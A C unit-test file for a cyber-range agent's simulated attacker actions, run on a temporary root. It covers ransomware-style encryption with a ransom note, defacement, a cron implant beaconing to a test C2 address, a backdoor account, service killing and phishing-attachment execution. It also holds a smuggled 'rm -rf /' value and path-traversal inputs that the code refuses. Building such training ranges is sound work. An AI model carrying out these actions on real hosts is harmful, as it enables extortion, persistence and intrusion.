/* test_act_host — the host-side attacker actions (agents/agent_act_host.c)
 * on a temporary root: every file they touch is q->root + its path.
 *
 * service_stop kills real processes started here (in their own session),
 * and persistence/account runs the image's adduser and chpasswd shims from
 * the source tree with busybox's mkpasswd, as the guests do.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <crypt.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <netinet/in.h>
#include <setjmp.h>
#include <signal.h>
#include <sodium.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "agent_action.h"

#ifndef CYRANGE_SRCDIR
#define CYRANGE_SRCDIR "."
#endif

/* ---- the test-only act_flow_add (the agent's is in agent_action.c) ----- */

void act_flow_add(act_result *r, const char *proto, const char *src, int sport,
                  const char *dst, int dport, long long packets, long long bytes)
{
    r->flows_total++;
    if (r->flows == NULL)
        r->flows = json_array();
    if (json_array_size(r->flows) >= ACT_MAX_FLOWS)
        return;
    json_array_append_new(r->flows,
                          json_pack("{s:s, s:s, s:i, s:s, s:i, s:I, s:I}", "proto", proto,
                                    "src", src, "sport", sport, "dst", dst, "dport", dport,
                                    "packets", (json_int_t)packets, "bytes",
                                    (json_int_t)bytes));
}

/* ---- fixture: a temporary root ----------------------------------------- */

typedef struct fx {
    char root[64];
    json_t *params;
    act_req q;
    act_result r;
} fx;

static int setup(void **state)
{
    fx *f = calloc(1, sizeof(*f));

    if (f == NULL)
        return -1;
    snprintf(f->root, sizeof(f->root), "/tmp/cyr-acthost-XXXXXX");
    if (mkdtemp(f->root) == NULL) {
        free(f);
        return -1;
    }
    f->params = json_object();
    f->q.step = "t1";
    f->q.root = f->root;
    f->q.params = f->params;
    f->q.seed = 42;
    f->q.deadline_ms = 60000;
    f->r.flows = json_array();
    f->r.evidence = json_object();
    *state = f;
    return 0;
}

static int rm_one(const char *p, const struct stat *st, int flag, struct FTW *ftw)
{
    (void)st;
    (void)flag;
    (void)ftw;
    remove(p);
    return 0;
}

static int teardown(void **state)
{
    fx *f = *state;

    nftw(f->root, rm_one, 32, FTW_DEPTH | FTW_PHYS);
    json_decref(f->params);
    json_decref(f->r.flows);
    json_decref(f->r.evidence);
    free(f);
    return 0;
}

/* A fresh result for a second run in the same test. */
static void result_reset(fx *f)
{
    json_decref(f->r.flows);
    json_decref(f->r.evidence);
    memset(&f->r, 0, sizeof(f->r));
    f->r.flows = json_array();
    f->r.evidence = json_object();
}

static void pset(fx *f, const char *k, const char *v)
{
    json_object_set_new(f->params, k, json_string(v));
}

static void path_of(const fx *f, const char *abs, char *out, size_t len)
{
    snprintf(out, len, "%s%s", f->root, abs);
}

static void mkdirs(const char *path)
{
    char tmp[4096];

    snprintf(tmp, sizeof(tmp), "%s", path);
    for (char *p = tmp + 1; *p; p++) {
        if (*p == '/') {
            *p = '\0';
            mkdir(tmp, 0755);
            *p = '/';
        }
    }
    mkdir(tmp, 0755);
}

static void put(const fx *f, const char *abs, const char *content, mode_t mode)
{
    char path[4096], dir[4096];
    FILE *fp;

    path_of(f, abs, path, sizeof(path));
    snprintf(dir, sizeof(dir), "%s", path);
    *strrchr(dir, '/') = '\0';
    mkdirs(dir);
    fp = fopen(path, "w");
    assert_non_null(fp);
    fputs(content, fp);
    fclose(fp);
    chmod(path, mode);
}

static char *slurp(const char *path, size_t *len)
{
    FILE *fp = fopen(path, "r");
    char *buf = NULL;
    size_t n = 0, cap = 0;

    if (fp == NULL)
        return NULL;
    for (;;) {
        if (n + 4096 + 1 > cap) {
            char *nb;
            cap = cap ? cap * 2 : 8192;
            nb = realloc(buf, cap);
            if (nb == NULL)
                free(buf);
            assert_non_null(nb);
            buf = nb;
        }
        size_t k = fread(buf + n, 1, 4096, fp);
        n += k;
        if (k == 0)
            break;
    }
    fclose(fp);
    buf[n] = '\0';
    if (len)
        *len = n;
    return buf;
}

static char *get(const fx *f, const char *abs)
{
    char path[4096];

    path_of(f, abs, path, sizeof(path));
    return slurp(path, NULL);
}

static int exists(const fx *f, const char *abs)
{
    char path[4096];
    struct stat st;

    path_of(f, abs, path, sizeof(path));
    return lstat(path, &st) == 0;
}

static long long ev_int(const fx *f, const char *k)
{
    return (long long)json_integer_value(json_object_get(f->r.evidence, k));
}

static const char *ev_str(const fx *f, const char *k)
{
    return json_string_value(json_object_get(f->r.evidence, k));
}

/* ---- impact.encrypt ------------------------------------------------------ */

static const char *const share_files[][2] = {
    {"/srv/share/finance/budget.csv", "dept,amount\nsales,120000\nrnd,80000\n"},
    {"/srv/share/finance/payments.csv", "supplier,amount\nacme,1000\n"},
    {"/srv/share/hr/salaries.csv", "name,salary\nhanako,5000000\n"},
    {"/srv/share/public/README.txt", "Welcome to the file share.\n"},
    {"/srv/share/public/phone-list.csv", "name,phone\nhanako,1234\n"},
};
#define NSHARE (sizeof(share_files) / sizeof(share_files[0]))

/* The key and nonce as agent_act_host.c derives them (seed, step, path). */
static void derive(const fx *f, const char *abs, unsigned char *key, unsigned char *nonce)
{
    unsigned char seedbuf[8 + 64];
    size_t sl = strlen(f->q.step);

    for (int i = 0; i < 8; i++)
        seedbuf[i] = (unsigned char)(f->q.seed >> (8 * i));
    memcpy(seedbuf + 8, f->q.step, sl);
    crypto_generichash(key, 32, seedbuf, 8 + sl, (const unsigned char *)"cyrange-impact-encrypt",
                       22);
    crypto_generichash(nonce, 24, (const unsigned char *)abs, strlen(abs), key, 32);
}

static void share_setup(fx *f, int with_backup)
{
    char bk[4096];

    for (size_t i = 0; i < NSHARE; i++) {
        put(f, share_files[i][0], share_files[i][1], 0664);
        /* The image's boot backup: /srv/share -> /srv/backup/share. */
        snprintf(bk, sizeof(bk), "/srv/backup/share%s", share_files[i][0] + 10);
        if (with_backup && i != 1) /* one file was added after the backup */
            put(f, bk, share_files[i][1], 0664);
    }
}

static void test_encrypt(void **state)
{
    fx *f = *state;
    char locked[4096], bk[4096];
    int nlocked = 0, nplain = 0;
    unsigned char key[32], nonce[24];

    assert_int_equal(sodium_init() >= 0, 1);
    share_setup(f, 1);
    pset(f, "path", "/srv/share");
    json_object_set_new(f->params, "max_files", json_integer(3));
    pset(f, "note", "Pay us.");
    assert_int_equal(act_impact_encrypt(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 1);
    assert_int_equal(ev_int(f, "files"), 3);
    assert_string_equal(ev_str(f, "backup"), "/srv/backup/share");

    for (size_t i = 0; i < NSHARE; i++) {
        snprintf(locked, sizeof(locked), "%s.locked", share_files[i][0]);
        snprintf(bk, sizeof(bk), "/srv/backup/share%s", share_files[i][0] + 10);
        if (exists(f, locked)) {
            size_t len = 0, plen = strlen(share_files[i][1]);
            char path[4096], *enc, *b;
            nlocked++;
            assert_false(exists(f, share_files[i][0]));
            path_of(f, locked, path, sizeof(path));
            enc = slurp(path, &len);
            assert_non_null(enc);
            /* Same length plus the 8-byte magic and the 24-byte nonce. */
            assert_int_equal(len, plen + 32);
            assert_memory_not_equal(enc, share_files[i][1], plen);
            assert_memory_equal(enc + plen, "CYRLOCK1", 8);
            /* It is real XChaCha20: the derived key decrypts it. */
            derive(f, share_files[i][0], key, nonce);
            assert_memory_equal(enc + plen + 8, nonce, 24);
            crypto_stream_xchacha20_xor_ic((unsigned char *)enc, (unsigned char *)enc, plen,
                                           nonce, 0, key);
            assert_memory_equal(enc, share_files[i][1], plen);
            free(enc);
            /* The recovery copy is there and intact (made now for the file
             * the boot backup did not have). */
            b = get(f, bk);
            assert_non_null(b);
            assert_string_equal(b, share_files[i][1]);
            free(b);
        } else {
            char *plain = get(f, share_files[i][0]);
            nplain++;
            assert_non_null(plain);
            assert_string_equal(plain, share_files[i][1]);
            free(plain);
        }
    }
    assert_int_equal(nlocked, 3);
    assert_int_equal(nplain, (int)NSHARE - 3);
    /* Name order: finance/budget, finance/payments (backed up now), hr. */
    assert_true(exists(f, "/srv/share/finance/payments.csv.locked"));
    assert_int_equal(ev_int(f, "backup_added"), 1);
    {
        char *note = get(f, "/srv/share/README-RESTORE-FILES.txt");
        assert_non_null(note);
        assert_non_null(strstr(note, "Pay us."));
        assert_non_null(strstr(note, "ID: "));
        free(note);
    }

    /* A second run takes the rest, never the .locked files or the note. */
    result_reset(f);
    json_object_set_new(f->params, "max_files", json_integer(100));
    assert_int_equal(act_impact_encrypt(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 1);
    assert_int_equal(ev_int(f, "files"), (long long)NSHARE - 3);
    assert_true(exists(f, "/srv/share/README-RESTORE-FILES.txt"));
    assert_false(exists(f, "/srv/share/README-RESTORE-FILES.txt.locked"));
    assert_false(exists(f, "/srv/share/finance/budget.csv.locked.locked"));
}

static void test_encrypt_refuses(void **state)
{
    fx *f = *state;

    share_setup(f, 1);
    pset(f, "path", "/srv/backup");
    assert_int_equal(act_impact_encrypt(&f->q, &f->r), -1);
    pset(f, "path", "/srv/backup/share");
    assert_int_equal(act_impact_encrypt(&f->q, &f->r), -1);
    pset(f, "path", "/etc");
    assert_int_equal(act_impact_encrypt(&f->q, &f->r), -1);
    pset(f, "path", "/srv/share/../backup");
    assert_int_equal(act_impact_encrypt(&f->q, &f->r), -1);
    pset(f, "path", "srv/share");
    assert_int_equal(act_impact_encrypt(&f->q, &f->r), -1);

    /* /srv as a whole: the walk never enters /srv/backup. */
    pset(f, "path", "/srv");
    assert_int_equal(act_impact_encrypt(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 1);
    assert_int_equal(ev_int(f, "files"), (long long)NSHARE);
    assert_true(exists(f, "/srv/backup/share/hr/salaries.csv"));
    assert_false(exists(f, "/srv/backup/share/hr/salaries.csv.locked"));

    /* A folder that is not there: ran, failed. */
    result_reset(f);
    pset(f, "path", "/srv/nothing");
    assert_int_equal(act_impact_encrypt(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 0);
}

static void test_encrypt_large_partial(void **state)
{
    fx *f = *state;
    char path[4096], *enc;
    size_t size = 17u * 1024 * 1024, len = 0;
    char *data = malloc(size);
    FILE *fp;

    assert_non_null(data);
    for (size_t i = 0; i < size; i++)
        data[i] = (char)('a' + i % 26);
    path_of(f, "/home/hanako/big.bin", path, sizeof(path));
    put(f, "/home/hanako/.keep", "", 0644);
    fp = fopen(path, "w");
    assert_non_null(fp);
    assert_int_equal(fwrite(data, 1, size, fp), size);
    fclose(fp);
    pset(f, "path", "/home/hanako");
    assert_int_equal(act_impact_encrypt(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 1);
    assert_int_equal(ev_int(f, "partial"), 1);
    /* Recovery copy of a path outside /srv. */
    assert_true(exists(f, "/srv/backup/other/home/hanako/big.bin"));
    path_of(f, "/home/hanako/big.bin.locked", path, sizeof(path));
    enc = slurp(path, &len);
    assert_non_null(enc);
    assert_int_equal(len, size + 32);
    /* The head is encrypted, the rest is as it was. */
    assert_memory_not_equal(enc, data, 4096);
    assert_memory_equal(enc + 2 * 1024 * 1024, data + 2 * 1024 * 1024, 4096);
    free(enc);
    free(data);
}

/* ---- impact.deface -------------------------------------------------------- */

static void test_deface(void **state)
{
    fx *f = *state;
    const char *orig = "<html><body>Intranet</body></html>\n";
    char path[4096], *s;
    struct stat st;
    DIR *d;
    struct dirent *de;

    put(f, "/srv/www/index.html", orig, 0640);
    put(f, "/srv/backup/www/index.html", orig, 0644);
    pset(f, "path", "/srv/www/index.html");
    pset(f, "content", "<h1>Hacked by cyrange</h1>\n");
    assert_int_equal(act_impact_deface(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 1);
    s = get(f, "/srv/www/index.html");
    assert_string_equal(s, "<h1>Hacked by cyrange</h1>\n");
    free(s);
    path_of(f, "/srv/www/index.html", path, sizeof(path));
    assert_int_equal(stat(path, &st), 0);
    assert_int_equal(st.st_mode & 07777, 0640);
    /* Recovery copy untouched, nothing hidden beside the page. */
    s = get(f, "/srv/backup/www/index.html");
    assert_string_equal(s, orig);
    free(s);
    assert_int_equal(json_is_true(json_object_get(f->r.evidence, "backup_added")), 0);
    path_of(f, "/srv/www", path, sizeof(path));
    d = opendir(path);
    assert_non_null(d);
    while ((de = readdir(d)) != NULL)
        assert_true(strcmp(de->d_name, ".") == 0 || strcmp(de->d_name, "..") == 0 ||
                    strcmp(de->d_name, "index.html") == 0);
    closedir(d);

    /* A URL path is a page of the web root; its recovery copy is made
     * when the boot backup has none. */
    result_reset(f);
    put(f, "/srv/www/news.html", "news\n", 0644);
    pset(f, "path", "/news.html");
    assert_int_equal(act_impact_deface(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 1);
    assert_string_equal(ev_str(f, "path"), "/srv/www/news.html");
    s = get(f, "/srv/backup/www/news.html");
    assert_string_equal(s, "news\n");
    free(s);

    /* Relative path, page that did not exist. */
    result_reset(f);
    pset(f, "path", "hacked.html");
    assert_int_equal(act_impact_deface(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 1);
    assert_true(exists(f, "/srv/www/hacked.html"));

    pset(f, "path", "/srv/www/../../etc/passwd");
    assert_int_equal(act_impact_deface(&f->q, &f->r), -1);
    pset(f, "path", "/srv/backup/www/index.html");
    assert_int_equal(act_impact_deface(&f->q, &f->r), -1);
}

/* ---- persistence ------------------------------------------------------------ */

static void test_persistence_cron(void **state)
{
    fx *f = *state;
    char path[4096], *tab, *implant, *self;
    size_t ilen = 0, slen = 0;
    struct stat st;

    put(f, "/var/spool/cron/crontabs/root", "# m h dom mon dow command\n0 3 * * * /usr/sbin/logrotate\n",
        0600);
    pset(f, "kind", "cron");
    pset(f, "name", "updater");
    pset(f, "schedule", "*/10 * * * *");
    /* No C2 to call: refused. */
    assert_int_equal(act_persistence(&f->q, &f->r), -1);

    f->q.c2_addr = "198.18.0.66";
    f->q.c2_port = 8080;
    f->q.c2_domain = "update.example.test";
    f->q.step = "persist";
    result_reset(f);
    assert_int_equal(act_persistence(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 1);
    tab = get(f, "/var/spool/cron/crontabs/root");
    assert_non_null(tab);
    assert_non_null(strstr(tab, "0 3 * * * /usr/sbin/logrotate\n"));
    assert_non_null(strstr(tab, "# updater\n*/10 * * * * /tmp/.cache/updater --implant "
                                "--step 'persist' --channel http --c2 '198.18.0.66' "
                                "--interval 60000 --port 8080 --count 1 --domain "
                                "'update.example.test' --seed 42 >/dev/null 2>&1\n"));
    free(tab);
    assert_true(exists(f, "/var/spool/cron/crontabs/cron.update"));
    /* The implant was not there: installed, root's, 0755, this binary. */
    path_of(f, ACT_IMPLANT_PATH, path, sizeof(path));
    assert_int_equal(stat(path, &st), 0);
    assert_int_equal(st.st_mode & 07777, 0755);
    implant = slurp(path, &ilen);
    self = slurp("/proc/self/exe", &slen);
    assert_int_equal(ilen, slen);
    assert_memory_equal(implant, self, slen);
    free(implant);
    free(self);
    path_of(f, "/var/spool/cron/crontabs/root", path, sizeof(path));
    assert_int_equal(stat(path, &st), 0);
    assert_int_equal(st.st_mode & 07777, 0600);

    /* The same name again replaces its entry. */
    result_reset(f);
    pset(f, "schedule", "@reboot");
    assert_int_equal(act_persistence(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 1);
    assert_int_equal(json_is_true(json_object_get(f->r.evidence, "replaced")), 1);
    tab = get(f, "/var/spool/cron/crontabs/root");
    assert_null(strstr(tab, "*/10 * * * *"));
    assert_non_null(strstr(tab, "# updater\n@reboot /tmp/.cache/updater --implant"));
    assert_non_null(strstr(tab, "/usr/sbin/logrotate"));
    /* One entry of that name, not two. */
    assert_null(strstr(strstr(tab, "# updater") + 1, "# updater"));
    free(tab);

    pset(f, "schedule", "* * * *; rm -rf /");
    assert_int_equal(act_persistence(&f->q, &f->r), -1);
    pset(f, "schedule", "* * * * *");
    pset(f, "name", "../x");
    assert_int_equal(act_persistence(&f->q, &f->r), -1);
}

static void test_persistence_account(void **state)
{
    fx *f = *state;
    char bin[4096], link[4096], env[8192], *pw, *sh;
    const char *oldpath = getenv("PATH");
    char *saved = oldpath ? strdup(oldpath) : NULL;
    char *line, hash[256];

    if (access("/bin/busybox", X_OK) != 0) {
        skip(); /* busybox-static provides mkpasswd for the chpasswd shim */
        return;
    }
    /* The image's accounts: passwd, group, shadow of rootfs/common. */
    {
        static const char *const files[] = {"passwd", "group", "shadow"};
        for (int i = 0; i < 3; i++) {
            char src[4096], abs[64], *c;
            snprintf(src, sizeof(src), "%s/agents/images/rootfs/common/etc/%s", CYRANGE_SRCDIR,
                     files[i]);
            c = slurp(src, NULL);
            assert_non_null(c);
            snprintf(abs, sizeof(abs), "/etc/%s", files[i]);
            put(f, abs, c, i == 2 ? 0640 : 0644);
            free(c);
        }
    }
    /* PATH: the shims, then busybox's mkpasswd. */
    path_of(f, "/testbin", bin, sizeof(bin));
    mkdirs(bin);
    snprintf(link, sizeof(link), "%s/mkpasswd", bin);
    assert_int_equal(symlink("/bin/busybox", link), 0);
    snprintf(env, sizeof(env), "%s/agents/images/rootfs/common/usr/sbin:%s:%s", CYRANGE_SRCDIR,
             bin, saved ? saved : "/usr/bin:/bin");
    setenv("PATH", env, 1);
    snprintf(env, sizeof(env), "%s/agents/images/rootfs/common/usr/lib/cyrange/accounts.sh",
             CYRANGE_SRCDIR);
    setenv("PW_LIB", env, 1);

    pset(f, "kind", "account");
    pset(f, "name", "svc-backup");
    pset(f, "password", "Backd00r!");
    assert_int_equal(act_persistence(&f->q, &f->r), 0);
    if (saved)
        setenv("PATH", saved, 1);
    unsetenv("PW_LIB");
    free(saved);
    assert_int_equal(f->r.succeeded, 1);
    assert_int_equal(ev_int(f, "uid"), 1000);
    pw = get(f, "/etc/passwd");
    assert_non_null(strstr(pw, "svc-backup:x:1000:1000:"));
    free(pw);
    sh = get(f, "/etc/shadow");
    line = strstr(sh, "svc-backup:$6$");
    assert_non_null(line);
    snprintf(hash, sizeof(hash), "%.*s", (int)strcspn(line + 11, ":"), line + 11);
    free(sh);
    /* The hash is of the password given. */
    assert_string_equal(crypt("Backd00r!", hash), hash);
}

/* ---- impact.service_stop --------------------------------------------------- */

/* A "service": session leader listening on TCP 127.0.0.1:port with a child
 * that sleeps, as start-services runs daemons. */
static pid_t start_service(int *port)
{
    int pfd[2];
    pid_t pid;

    assert_int_equal(pipe(pfd), 0);
    pid = fork();
    assert_true(pid >= 0);
    if (pid == 0) {
        struct sockaddr_in sa = {.sin_family = AF_INET};
        socklen_t sl = sizeof(sa);
        int s;
        setsid();
        s = socket(AF_INET, SOCK_STREAM, 0);
        sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 4) < 0 ||
            getsockname(s, (struct sockaddr *)&sa, &sl) < 0)
            _exit(1);
        *port = ntohs(sa.sin_port);
        if (write(pfd[1], port, sizeof(*port)) != sizeof(*port))
            _exit(1);
        if (fork() == 0) {
            close(s);
            execl("/bin/sleep", "sleep", "300", (char *)NULL);
            _exit(1);
        }
        for (int i = 0; i < 600; i++)
            sleep(1);
        _exit(0);
    }
    close(pfd[1]);
    assert_int_equal(read(pfd[0], port, sizeof(*port)), sizeof(*port));
    close(pfd[0]);
    return pid;
}

static int port_listens(int port)
{
    FILE *fp = fopen("/proc/net/tcp", "r");
    char line[512];
    int found = 0;

    assert_non_null(fp);
    while (fgets(line, sizeof(line), fp)) {
        unsigned lp, st;
        if (sscanf(line, " %*d: %*[0-9A-F]:%x %*s %x", &lp, &st) == 2 && (int)lp == port &&
            st == 0x0A)
            found = 1;
    }
    fclose(fp);
    return found;
}

static void write_pidfile(fx *f, const char *name, pid_t pid)
{
    char abs[256], txt[32];

    snprintf(abs, sizeof(abs), "/run/cyrange/services/%s.pid", name);
    snprintf(txt, sizeof(txt), "%d\n", (int)pid);
    put(f, abs, txt, 0644);
}

static void test_service_stop(void **state)
{
    fx *f = *state;
    int port = 0, status = 0;
    pid_t pid = start_service(&port);
    json_t *ports;
    char want[32];

    /* Give the sleeping child time to start. */
    usleep(200 * 1000);
    assert_true(port_listens(port));
    write_pidfile(f, "intranet", pid);
    pset(f, "service", "intranet");
    assert_int_equal(act_impact_service_stop(&f->q, &f->r), 0);
    assert_int_equal(waitpid(pid, &status, 0), pid);
    assert_true(WIFSIGNALED(status));
    assert_int_equal(f->r.succeeded, 1);
    assert_false(port_listens(port));
    assert_int_equal(ev_int(f, "pid"), pid);
    assert_int_equal(ev_int(f, "killed"), 2);
    ports = json_object_get(f->r.evidence, "ports");
    snprintf(want, sizeof(want), "tcp/%d", port);
    assert_int_equal(json_array_size(ports), 1);
    assert_string_equal(json_string_value(json_array_get(ports, 0)), want);

    /* Again: not running any more; its ports (unknown for this name) are
     * not known, so no success can be claimed. */
    result_reset(f);
    assert_int_equal(act_impact_service_stop(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 0);
    assert_int_equal(json_is_true(json_object_get(f->r.evidence, "was_running")), 0);
}

static void test_service_stop_sleep(void **state)
{
    fx *f = *state;
    int status = 0;
    pid_t pid = fork();

    assert_true(pid >= 0);
    if (pid == 0) {
        setsid();
        execl("/bin/sleep", "sleep", "300", (char *)NULL);
        _exit(1);
    }
    usleep(100 * 1000);
    write_pidfile(f, "sleeper", pid);
    pset(f, "service", "sleeper");
    assert_int_equal(act_impact_service_stop(&f->q, &f->r), 0);
    assert_int_equal(waitpid(pid, &status, 0), pid);
    assert_true(WIFSIGNALED(status));
    assert_int_equal(WTERMSIG(status), SIGTERM);
    assert_int_equal(f->r.succeeded, 1);

    /* A stale pid file naming a process that does not lead its session
     * (the pid was reused) is not followed. */
    result_reset(f);
    pid = fork();
    assert_true(pid >= 0);
    if (pid == 0) {
        execl("/bin/sleep", "sleep", "300", (char *)NULL);
        _exit(1);
    }
    usleep(100 * 1000);
    write_pidfile(f, "sleeper", pid);
    assert_int_equal(act_impact_service_stop(&f->q, &f->r), 0);
    assert_int_equal(json_is_true(json_object_get(f->r.evidence, "was_running")), 0);
    assert_int_equal(kill(pid, 0), 0);
    kill(pid, SIGKILL);
    assert_int_equal(waitpid(pid, &status, 0), pid);

    /* Pid files never make it kill init or itself. */
    result_reset(f);
    write_pidfile(f, "sleeper", 1);
    assert_int_equal(act_impact_service_stop(&f->q, &f->r), 0);
    assert_int_equal(json_is_true(json_object_get(f->r.evidence, "was_running")), 0);
    write_pidfile(f, "sleeper", getpid());
    assert_int_equal(act_impact_service_stop(&f->q, &f->r), 0);
    pset(f, "service", "../../etc/x");
    assert_int_equal(act_impact_service_stop(&f->q, &f->r), -1);
}

/* ---- phish.open --------------------------------------------------------------- */

static const char implant_b64[] = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAK"; /* bytes */

static void mail_setup(fx *f, int with_attachment)
{
    char box[8192];

    put(f, "/etc/passwd",
        "root:x:0:0:root:/root:/bin/sh\nhanako:x:1000:1000:Hanako:/home/hanako:/bin/sh\n", 0644);
    mkdirs(f->root);
    {
        char home[4096];
        path_of(f, "/home/hanako", home, sizeof(home));
        mkdirs(home);
        assert_int_equal(chown(home, 1000, 1000), 0);
    }
    snprintf(box, sizeof(box),
             "From it@example.test Mon Jan  5 09:00:00 2026\n"
             "Received: from pc2 (198.18.2.101)\n\tby mail (mini-smtpd) with ESMTP id 1;\n"
             "From: <it@example.test>\nTo: <hanako@example.test>\n"
             "Subject: Password expiry\n\n"
             "Your password expires soon.\n>From the IT team\n\n"
             "From hr@exarnple.test Mon Jan  5 10:00:00 2026\n"
             "From: \"HR\" <hr@exarnple.test>\nTo: <hanako@example.test>\n"
             "Subject: Revised\n bonus table\n"
             "MIME-Version: 1.0\n"
             "Content-Type: multipart/mixed; boundary=\"b1\"\n\n"
             "This is a multi-part message in MIME format.\n"
             "--b1\nContent-Type: text/plain; charset=utf-8\n\n"
             "Please see the attached table.\n\n"
             "%s"
             "--b1--\n\n",
             with_attachment ?
                 "--b1\nContent-Type: application/octet-stream; name=\"bonus.xls.exe\"\n"
                 "Content-Transfer-Encoding: base64\n"
                 "Content-Disposition: attachment; filename=\"bonus.xls.exe\"\n\n"
                 "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAA\nAAAAAAAK\n" : "");
    put(f, "/var/mail/hanako", box, 0660);
}

static void test_phish_open(void **state)
{
    fx *f = *state;
    char path[4096], *att, *implant, *self;
    size_t alen = 0, ilen = 0, slen = 0;
    unsigned char want[64];
    size_t wlen = 0;
    struct stat st;

    mail_setup(f, 1);
    pset(f, "user", "hanako");
    pset(f, "subject", "revised bonus table");
    assert_int_equal(act_phish_open(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 1);
    assert_string_equal(ev_str(f, "subject"), "Revised bonus table");
    assert_string_equal(ev_str(f, "attachment"), "/home/hanako/Downloads/bonus.xls.exe");
    assert_int_equal(ev_int(f, "messages"), 2);
    /* The attachment, decoded, in the user's Downloads, the user's. */
    path_of(f, "/home/hanako/Downloads/bonus.xls.exe", path, sizeof(path));
    att = slurp(path, &alen);
    assert_non_null(att);
    assert_int_equal(sodium_base642bin(want, sizeof(want), implant_b64, strlen(implant_b64),
                                       NULL, &wlen, NULL, sodium_base64_VARIANT_ORIGINAL),
                     0);
    assert_int_equal(alen, wlen);
    assert_memory_equal(att, want, wlen);
    free(att);
    assert_int_equal(stat(path, &st), 0);
    assert_int_equal(st.st_uid, 1000);
    /* The implant: this binary, 0755, owned by the user. */
    path_of(f, ACT_IMPLANT_PATH, path, sizeof(path));
    assert_int_equal(stat(path, &st), 0);
    assert_int_equal(st.st_mode & 07777, 0755);
    assert_int_equal(st.st_uid, 1000);
    implant = slurp(path, &ilen);
    self = slurp("/proc/self/exe", &slen);
    assert_int_equal(ilen, slen);
    assert_memory_equal(implant, self, slen);
    free(implant);
    free(self);
    assert_int_equal(json_array_size(f->r.flows), 0); /* local mailbox: no traffic */

    /* No subject: the newest message with an attachment. */
    result_reset(f);
    json_object_del(f->params, "subject");
    assert_int_equal(act_phish_open(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 1);

    /* A subject that is not there. */
    result_reset(f);
    pset(f, "subject", "Invoice");
    assert_int_equal(act_phish_open(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 0);
    assert_non_null(strstr(f->r.detail, "no message"));
}

/* Non-ASCII subjects and names arrive as RFC 2047 encoded words (phish.deliver
 * encodes them so): "賞与の改定表" in two words, the file name "賞与.xls.exe". */
static void test_phish_open_encoded(void **state)
{
    fx *f = *state;
    char box[4096];

    mail_setup(f, 0);
    snprintf(box, sizeof(box),
             "From hr@exarnple.test Mon Jan  5 10:00:00 2026\n"
             "From: =?UTF-8?Q?=E4=BA=BA=E4=BA=8B?= <hr@exarnple.test>\n"
             "Subject: =?UTF-8?B?6LOe5LiO44Gu?=\n =?UTF-8?B?5pS55a6a6KGo?=\n"
             "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n"
             "--x\nContent-Type: text/plain\n\nhi\n"
             "--x\nContent-Type: application/octet-stream; name=\"=?UTF-8?B?6LOe5LiOLnhscy5leGU=?=\"\n"
             "Content-Disposition: attachment; filename=\"=?UTF-8?B?6LOe5LiOLnhscy5leGU=?=\"\n"
             "Content-Transfer-Encoding: base64\n\nTVqQ\n--x--\n\n");
    put(f, "/var/mail/hanako", box, 0660);
    pset(f, "user", "hanako");
    pset(f, "subject", "賞与の改定表");
    assert_int_equal(act_phish_open(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 1);
    assert_string_equal(ev_str(f, "subject"), "賞与の改定表");
    assert_string_equal(ev_str(f, "from"), "人事 <hr@exarnple.test>");
    assert_string_equal(ev_str(f, "attachment"), "/home/hanako/Downloads/賞与.xls.exe");
    assert_true(exists(f, "/home/hanako/Downloads/賞与.xls.exe"));
}

static void test_phish_open_nothing_to_open(void **state)
{
    fx *f = *state;

    mail_setup(f, 0);
    pset(f, "user", "hanako");
    pset(f, "subject", "Revised bonus table");
    assert_int_equal(act_phish_open(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 0);
    assert_non_null(strstr(f->r.detail, "no attachment or link"));
    assert_false(exists(f, ACT_IMPLANT_PATH));

    /* Unknown account: cannot run. */
    result_reset(f);
    pset(f, "user", "nobody2");
    assert_int_equal(act_phish_open(&f->q, &f->r), -1);
}

static void test_phish_open_remote_unconfigured(void **state)
{
    fx *f = *state;

    mail_setup(f, 1);
    {
        char path[4096];
        path_of(f, "/var/mail/hanako", path, sizeof(path));
        unlink(path);
    }
    /* A mail profile with a server outside the range: never contacted. */
    put(f, "/home/hanako/.mailclient", "server='10.0.0.1'\nuser='hanako'\npassword='x'\n", 0600);
    pset(f, "user", "hanako");
    assert_int_equal(act_phish_open(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 0);
    assert_non_null(strstr(f->r.detail, "no mail server address"));
    assert_int_equal(json_array_size(f->r.flows), 0);

    /* Server by name through CYR_HOSTS, but no saved password. */
    result_reset(f);
    put(f, "/home/hanako/.mailclient", "server='mail'\n", 0600);
    /* A quoted value spanning lines before the key does not confuse it. */
    put(f, "/etc/cyrange/host.env",
        "# written by cyrange-agent\nCYR_X='a'\\''b\nCYR_HOSTS=nope c'\n"
        "CYR_HOSTS='fw=198.18.0.1 mail=198.18.1.25'\n", 0644);
    assert_int_equal(act_phish_open(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 0);
    if (strstr(f->r.detail, "no saved mail password") == NULL)
        fail_msg("detail: %s", f->r.detail);
}

